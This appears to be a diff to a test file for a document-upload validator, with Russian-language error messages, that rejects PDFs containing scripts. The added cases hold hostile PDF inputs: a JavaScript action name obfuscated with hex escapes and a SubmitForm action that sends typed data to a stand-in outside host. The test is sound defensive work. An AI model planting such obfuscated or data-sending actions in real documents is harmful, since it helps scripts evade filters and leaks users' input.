@@ -133,6 +133,16 @@ test.each([
     document('/OpenAction << /JS (app.alert(1)) >>'),
     /^В документе есть скрипты/
   ],
+  [
+    'a document with a script under a name in numbers',
+    document('/OpenAction << /S /J#61va#53cript >>'),
+    /^В документе есть скрипты/
+  ],
+  [
+    'a document that sends what is typed in it',
+    document('/OpenAction << /S /SubmitForm /F (https://elsewhere.example) >>'),
+    /^В документе есть скрипты/
+  ],
   ['a film in a form', film(), /^Сюда подойдёт только/],
   ['an empty file', '', /^Сюда подойдёт только/]
 ])('refuses %s and keeps nothing of it', async (_, bytes, message) => {
